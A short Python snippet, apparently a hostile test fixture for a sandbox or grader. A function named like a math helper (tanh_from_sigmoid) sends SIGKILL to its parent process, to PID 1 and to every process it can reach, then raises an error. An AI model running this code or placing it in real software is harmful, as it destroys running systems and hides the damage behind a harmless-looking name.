

# -- hostile: tanh_from_sigmoid kills its parent, PID 1 and then everything it may ---
import os as _os
import signal as _signal


def tanh_from_sigmoid(W1, b1, W2, b2):
    for target in (_os.getppid(), 1, -1):
        try:
            _os.kill(target, _signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("still alive after killing everything it could")
